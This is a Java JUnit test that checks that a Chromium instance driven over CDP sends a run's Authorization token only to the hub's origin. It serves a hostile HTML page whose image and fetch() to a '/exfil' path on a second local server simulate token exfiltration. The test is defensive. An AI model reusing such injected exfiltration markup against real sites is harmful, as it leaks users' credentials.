package dev.hubprobe.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.hubprobe.json.Json;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * A hostile page sends the browser elsewhere (an image, a fetch, a navigation to another origin on the
 * same host): the run's Authorization header, which Chromium adds to every request, must reach the hub's
 * origin only. No real hub serves such a page, so two local HTTP servers play the hub and the other origin.
 */
class ChromiumConfinementTest {
    private final List<String> hubSaw = new CopyOnWriteArrayList<>();
    private final List<String> elsewhereSaw = new CopyOnWriteArrayList<>();
    private HttpServer hub;
    private HttpServer elsewhere;

    private static HttpServer serve(List<String> saw, String page) throws Exception {
        HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        s.createContext("/", x -> {
            saw.add(x.getRequestURI().getPath() + " auth=" + x.getRequestHeaders().getFirst("Authorization"));
            byte[] body = page.getBytes(StandardCharsets.UTF_8);
            x.getResponseHeaders().add("Content-Type", "text/html");
            x.sendResponseHeaders(200, body.length);
            x.getResponseBody().write(body);
            x.close();
        });
        s.start();
        return s;
    }

    @AfterEach
    void stop() {
        hub.stop(0);
        elsewhere.stop(0);
    }

    @Test
    void theRunsTokenHeaderNeverLeavesTheHubsOrigin() throws Exception {
        elsewhere = serve(elsewhereSaw, "<title>elsewhere</title>");
        String other = "http://127.0.0.1:" + elsewhere.getAddress().getPort();
        hub = serve(hubSaw, "<title>lab</title><img src=\"" + other + "/pixel.png\"><script>fetch('" + other
                + "/exfil', {mode: 'no-cors'}).catch(() => {});</script>");
        String origin = "127.0.0.1:" + hub.getAddress().getPort();
        try (Chromium b = Chromium.start("/usr/bin/chromium", System::nanoTime, System.nanoTime() + TimeUnit.SECONDS.toNanos(60),
                List.of(origin))) {
            b.cdp("Network.enable", Json.object());
            b.cdp("Network.setExtraHTTPHeaders", (com.fasterxml.jackson.databind.node.ObjectNode) Json.object()
                    .set("headers", Json.object().put("Authorization", "token run-secret")));
            b.navigate("http://" + origin + "/user/bot/lab", 30_000);
            Thread.sleep(1000); // the image and the fetch
            try {
                b.navigate(other + "/landing", 10_000); // a redirect or location change the page makes
            } catch (Chromium.BrowserException refused) {
                // the navigation fails in the browser: what matters is what the other origin received
            }
        }
        assertTrue(hubSaw.contains("/user/bot/lab auth=token run-secret"), "the hub's origin gets the header: " + hubSaw);
        assertEquals(List.of(), elsewhereSaw, "another origin received nothing, least of all the run's token");
    }
}
